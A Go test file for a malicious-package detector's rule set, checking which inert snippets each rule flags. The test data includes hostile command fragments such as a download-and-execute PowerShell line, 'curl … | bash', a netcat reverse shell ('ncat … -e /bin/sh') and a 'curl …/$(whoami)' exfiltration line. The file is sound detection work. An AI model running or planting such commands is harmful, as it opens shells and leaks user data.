package ossgadget_test

import (
	"fmt"
	"io/fs"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/malguard/malguard/baselines/ossgadget"
	"github.com/malguard/malguard/eval"
	"github.com/malguard/malguard/eval/detectortest"
)

var published, intended = made(ossgadget.Options{}), made(ossgadget.Options{Intended: true})

// made compiles a detector once.
func made(opt ossgadget.Options) func() (*ossgadget.Detector, error) {
	return sync.OnceValues(func() (*ossgadget.Detector, error) { return ossgadget.New(opt) })
}

func detect(t testing.TB, opt ossgadget.Options, files map[string]string) eval.Detection {
	t.Helper()
	d, err := published()
	if opt.Intended {
		d, err = intended()
	}
	require.NoError(t, err)
	got, err := d.Detect(t.Context(), detectortest.Package(files))
	require.NoError(t, err)
	return got
}

// line returns where a rule matched first, or 0.
func line(d eval.Detection, rule string) int {
	for _, e := range d.Evidence {
		if e.Rule == rule {
			return e.Line
		}
	}
	return 0
}

// snippets are inert. Line 0 says that the rule must not match.
var snippets = []struct {
	rule, file, source string
	line               int
}{
	{"BD000101", "a.ps1", "x\niex (New-Object Net.WebClient)\n", 2},
	{"BD000101", "a.ps1", "DownloadFile $u; Start-Process $p\n", 1},
	{"BD000101", "a.py", "iex (New-Object Net.WebClient)\n", 0},
	{"BD000102", "pkg/setup.py", "Requests.get(u)\n", 1},
	{"BD000102", "pkg/setup.py", "myrequests.get(u)\n", 0},
	{"BD000102", "pkg/main.py", "requests.get(u)\n", 0},
	{"BD000103", "package.json", `{"scripts": {"postinstall": "node x.js"}}`, 1},
	{"BD000103", "package.json", `{"scripts": {"postinstall": "node x.py"}}`, 0},
	{"BD000104", "m.py", "x = 'curl example.com | bash'\n", 1},
	{"BD000104", "m.py", "x = 'curl " + strings.Repeat("é", 50) + "|sh'\n", 0}, // a blank and 50 characters
	{"BD000104", "m.py", "x = 'curl " + strings.Repeat("é", 49) + "|sh'\n", 1},
	{"BD000200", "m.py", "#  ___CFDUID\n", 1},
	{"BD000200", "m.py", "#  ___cfduids\n", 0},
	{"BD000201", "m.py", "zauthss = 1\n", 1},
	{"BD000201", "m.py", "zauthss1 = 1\n", 0},
	{"BD000202", "m.py", "'gohack.xyz'\n", 1},
	{"BD000202", "m.py", "'gohack-xyz'\n", 0},
	{"BD000203", "m.py", "# billythegoat356\n", 1},
	{"BD000203", "m.py", "# billythegoat\n", 0},
	{"BD000300", "m.py", "h = '0.tcp.ngrok.io'\n", 1},
	{"BD000300", "m.py", "h = 'tcp.ngrok.iox'\n", 0},
	{"BD000301", "package.json", "ncat 192.0.2.1 -e /bin/sh", 1},
	{"BD000301", "m.py", "ncat 192.0.2.1 -e /bin/sh", 0},
	{"BD000500", "m.py", "u = 'pastebin.com'\n", 1},
	{"BD000500", "m.py", "u = 'mypastebin.com'\n", 0},
	{"BD000600", "m.py", "x\nto update it\n", 2},
	{"BD000600", "m.py", "to update\u00a0it, and\u0085Shell32.dll ", 1},
	{"BD000600", "m.py", "update it (update) x", 0},
	{"BD000610", "m.py", "# set the TIME now\n", 1},
	{"BD000610", "m.py", "# set the time, cat", 0},
	{"BD000700", "m.py", "d.get(k)\n", 1},
	{"BD000700", "m.py", "d.get (k)\n", 0},
	{"BD000701", "m.py", "api_keys = 1\n", 1},
	{"BD000701", "m.py", "api_key = 1\n", 0},
	{"BD000702", "m.py", "os.environ.get(k)\n", 1},
	{"BD000702", "m.py", "environ['k']\n", 0},
	{"BD000702", "m.py", "process.env\n", 1},
	{"BD000702", "m.py", "Process.env\n", 0},
	{"BD000703", "m.py", "x = 'whoami'\n", 1},
	{"BD000703", "m.py", "x = 'Whoami'\n", 0},
	{"BD000704", "m.py", "get_hostname()\n", 1},
	{"BD000704", "m.py", "gethostname()\n", 0},
	{"BD000705", "m.py", "DNS.lookup\n", 1},
	{"BD000705", "m.py", "Nslookup\n", 0},
	{"BD000706", "m.py", "f().homedir\n", 1},
	{"BD000706", "m.py", "os.homedir\n", 0}, // a letter before the dot
	{"BD000707", "m.py", "f().platform\n", 1},
	{"BD000707", "m.py", "sys.platform\n", 0},
	{"BD000708", "m.py", "OS.type\n", 1},
	{"BD000708", "m.py", "os.types\n", 0},
	{"BD000709", "m.py", "f().networkInterfaces()\n", 1},
	{"BD000709", "m.py", "os.networkInterfaces()\n", 0},
	{"BD000710", "m.py", "dns.getServers()\n", 1},
	{"BD000710", "m.py", "dns.getServer()\n", 0},
	{"BD000711", "package.json", "curl example.com/$(whoami)", 1},
	{"BD000711", "package.json", "curl example.com\nwhoami", 0},
	{"BD000712", "m.js", "dns\n" + strings.Repeat("\n", 29) + "os.userInfo()\nhttps\n(.request)\n", 31},
	{"BD000712", "m.js", "dns\n" + strings.Repeat("\n", 30) + "os.userInfo()\nhttps\n(.request)\n", 0},
	{"BD000800", "m.py", "import base64\n", 1},
	{"BD000800", "m.py", "import mybase64\n", 0},
	{"BD000801", "m.py", "bytes.fromhex(x).decode()\n", 1},
	{"BD000801", "m.py", "bytes.fromhex(x)\n.decode()\n", 0},
	{"BD000801", "m.py", `x = '\x41\x41\x41\x41\x41'`, 1},
	{"BD000801", "m.py", `x = '\x41\x41\x41\x41 \x41'`, 0},
	{"BD000802", "m.py", "'a'+'b'+'c'+'é'+'e'+'f'+x\n", 1},
	{"BD000802", "m.py", "'a'+'b'+'c'+'d'+'e'+x\n", 0},
	{"BD000803", "m.py", "DNS.setservers(x)\n", 1},
	{"BD000803", "m.py", "dns.getServers(x)\n", 0},
	{"BD000804", "m.py", "x = '" + strings.Repeat("aZ09", 10) + "'\n", 1},
	{"BD000804", "m.py", "x = '" + strings.Repeat("aZ09", 50000) + "'\n", 1},
	{"BD000804", "m.py", "x = '" + strings.Repeat("a", 39) + "'\n", 0},
	{"BD000804", "m.py", "x = '" + strings.Repeat("a", 40) + "='\n", 0},
	{"BD000805", "m.py", strings.Repeat(`\xfF`, 10), 1},
	{"BD000805", "m.py", strings.Repeat(`\xfF`, 9), 0},
	{"BD000806", "m.py", "'65786563'\n", 1},
	{"BD000806", "m.js", "'65786563'\n", 0},
	{"BD000807", "m.py", "'6576616C28'\n", 1},
	{"BD000807", "m.py", "'6576616c28'\n", 0},
	{"BD000808", "m.py", "'73797374656D'\n", 1},
	{"BD000808", "m.py", "'73797374656d28'\n", 0},
	{"BD000809", "m.pyw", "'61736536345f6465636f646528677a696e666c61746528'\n", 1},
	{"BD000809", "m.py", "'61736536345f6465636f646528'\n", 0},
	{"BD000900", "m.psm1", "x -cpassword y\n", 1},
	{"BD000900", "m.psm1", "x -cpasswords y\n", 0},
	{"BD001001", "package.json", `"author": "infosecgirl"`, 1},
	{"BD001001", "m.js", `"author": "infosecgirl"`, 0},
	{"BD001002", "m.js", "// x.interact.sh\n", 1},
	{"BD001002", "m.js", "interact.sh\n", 0},
	{"BD001003", "m.js", "resolve4(x)\n", 1},
	{"BD001003", "m.js", "// resolve4(x)\n", 0},
}

// dead are rules that cannot match as they are published.
var dead = []struct{ rule, source, other string }{
	{"BD000100", "exec(x.decode(y))\n", "exec(x)\n"},
	{"BD000105", "exec(urlopen(x))\n", "exec(x)\n"},
	{"BD000400", "# bitcoin\n", "# bitcoins\n"},
	{"BD000810", "if 1 == 2:\n", "if x == 2:\n"},
}

func TestRules(t *testing.T) {
	fires, silent := map[string]bool{}, map[string]bool{}
	for _, s := range snippets {
		for _, intended := range []bool{false, true} {
			d := detect(t, ossgadget.Options{Intended: intended}, map[string]string{s.file: s.source})
			require.Equal(t, s.line, line(d, s.rule), "%s on %q: %v", s.rule, s.source, d.Evidence)
		}
		fires[s.rule] = fires[s.rule] || s.line > 0
		silent[s.rule] = silent[s.rule] || s.line == 0
	}
	for _, s := range dead {
		require.Zero(t, line(detect(t, ossgadget.Options{}, map[string]string{"m.py": s.source}), s.rule), s.rule)
		require.Equal(t, 1, line(detect(t, ossgadget.Options{Intended: true}, map[string]string{"m.py": s.source}), s.rule), s.rule)
		require.Zero(t, line(detect(t, ossgadget.Options{Intended: true}, map[string]string{"m.py": s.other}), s.rule), s.rule)
		fires[s.rule], silent[s.rule] = true, true
	}
	ids := ossgadget.RuleIDs()
	require.Len(t, ids, 44)
	for _, id := range ids {
		require.True(t, fires[id], "no snippet on which %s matches", id)
		require.True(t, silent[id], "no snippet on which %s does not", id)
	}
}

// TestScopes: BD000800 is for code, BD000500 for code and comments.
func TestScopes(t *testing.T) {
	for _, c := range []struct {
		file, source   string
		code, anywhere int // lines
	}{
		{"m.py", "# base64 pastebin\n", 1, 1}, // no blocks of comments: all is code
		{"m.yml", "# base64 pastebin\n", 1, 1},
		{"m.txt", "base64 pastebin\n", 0, 1},
		{"m.js", "// base64 pastebin\n", 0, 1},
		{"m.js", "// x\nbase64 pastebin\n", 2, 2},
		{"m.js", "x = 'http://base64/pastebin'\n", 1, 1}, // in a string
		{"m.js", "x = 'http://x' // base64 pastebin\n", 0, 1},
		{"m.js", "/*\n base64 */ pastebin\n", 0, 2},
		{"m.js", "/* x */ base64 pastebin\n", 1, 1},
		{"m.js", "/* base64 pastebin\n", 0, 1}, // never closed
		{"m.jsx", "// base64 pastebin\n", 1, 1},
		{"m.rb", "# base64\n=begin\nbase64 pastebin\n=end\n", 0, 3},
		{"m.rb", "=begin\n=end\nbase64\n", 3, 0},
		{"m.rb", "# base64\nbase64\n", 2, 0},
	} {
		d := detect(t, ossgadget.Options{}, map[string]string{c.file: c.source})
		require.Equal(t, [2]int{c.code, c.anywhere}, [2]int{line(d, "BD000800"), line(d, "BD000500")}, "%s %q", c.file, c.source)
	}
	blank := map[string]string{"m.rb": "\n\ntime now\n"}
	require.Equal(t, 3, line(detect(t, ossgadget.Options{}, blank), "BD000610"))
	program := map[string]string{"m.js": "// set the time\nset the time\n"}
	require.Equal(t, 2, line(detect(t, ossgadget.Options{}, program), "BD000610"))
}

func TestFiles(t *testing.T) {
	const hit = "import base64\n"
	for file, matched := range map[string]struct{ published, intended bool }{
		"README.md":     {true, false},
		"a/license":     {true, false},
		"x.md.html":     {true, true},
		"no-extension":  {true, true},
		"package.json":  {true, true},
		"notes.unknown": {true, true},
	} {
		files := map[string]string{file: hit}
		require.Equal(t, matched.published, line(detect(t, ossgadget.Options{}, files), "BD000800") == 1, file)
		require.Equal(t, matched.intended, line(detect(t, ossgadget.Options{Intended: true}, files), "BD000800") == 1, file)
	}
	for name, data := range map[string]string{
		"NUL":      "\x00" + hit,
		"controls": hit + strings.Repeat("\x01", 7),
		"Cyrillic": hit + strings.Repeat("\xd0\x90", 14), // 0x90 is a control character for it
	} {
		require.Zero(t, line(detect(t, ossgadget.Options{}, map[string]string{"m.dat": data}), "BD000800"), name)
		require.Equal(t, 1, line(detect(t, ossgadget.Options{}, map[string]string{"m.py": data}), "BD000800"), name)
	}
	require.Equal(t, 1, line(detect(t, ossgadget.Options{}, map[string]string{"m.dat": hit + strings.Repeat("\x01", 6)}), "BD000800"))
}

// TestScore counts rules, not matches, and evidence names ten files of each.
func TestScore(t *testing.T) {
	require.Zero(t, detect(t, ossgadget.Options{}, nil).Score)
	files := map[string]string{}
	for i := range 20 {
		files[fmt.Sprintf("m%02d.py", i)] = "(base64)\n(base64)\n"
	}
	d := detect(t, ossgadget.Options{}, files)
	require.Equal(t, eval.CountScore(1), d.Score)
	require.GreaterOrEqual(t, d.Score, ossgadget.Threshold)
	require.Len(t, d.Evidence, 10)
	files["z.py"] = "u = 'https://pastebin.com/x'"
	d = detect(t, ossgadget.Options{}, files)
	require.Equal(t, eval.CountScore(2), d.Score)
	last := d.Evidence[10]
	require.Equal(t, "BD000500", last.Rule)
	require.Equal(t, "moderate: names a paste site: pastebin", last.Note)
}

// TestHostile: files that are made to take long end, and do not end in a clean
// verdict.
func TestHostile(t *testing.T) {
	for name, c := range map[string]struct {
		file, source string
		status       eval.Status
	}{
		"a line of 4 MB":       {"m.py", "x = '" + strings.Repeat("y", 4<<20) + "'; import base64", eval.Scored},
		"decode without .get(": {"m.py", "base64 " + strings.Repeat("decode ", 1<<14), eval.Incomplete},
		"comments":             {"m.js", "base64 /*" + strings.Repeat(" .get(", 1<<17), eval.Scored},
		"one long comment":     {"m.js", "base64 //" + strings.Repeat(" hostname //", 1<<16), eval.Scored},
	} {
		d := detect(t, ossgadget.Options{}, map[string]string{c.file: c.source})
		require.Equal(t, c.status, d.Status, name)
		require.Equal(t, 1, line(d, "BD000800"), name)
	}
}

func FuzzDetect(f *testing.F) {
	for _, s := range snippets {
		f.Add(s.file, s.source)
	}
	detector, err := published()
	require.NoError(f, err)
	f.Fuzz(func(t *testing.T, file, source string) {
		if !fs.ValidPath(file) || file == "." {
			file = "m.js"
		}
		d, err := detector.Detect(t.Context(), detectortest.Package(map[string]string{file: source}))
		require.NoError(t, err)
		for _, e := range d.Evidence {
			require.True(t, 1 <= e.Line && e.Line <= strings.Count(source, "\n")+1)
			require.LessOrEqual(t, len([]rune(e.Note)), 80)
		}
	})
}

func BenchmarkDetect(b *testing.B) {
	d, err := ossgadget.New(ossgadget.Options{})
	require.NoError(b, err)
	p := detectortest.Package(map[string]string{
		"setup.py":   detectortest.Malicious(),
		"demo/m.py":  strings.Repeat("def f(x):\n    return [y for y in x]\n", 5000),
		"demo/m.txt": strings.Repeat("Some words of text.\n", 5000),
	})
	for b.Loop() {
		if _, err := d.Detect(b.Context(), p); err != nil {
			b.Fatal(err)
		}
	}
}
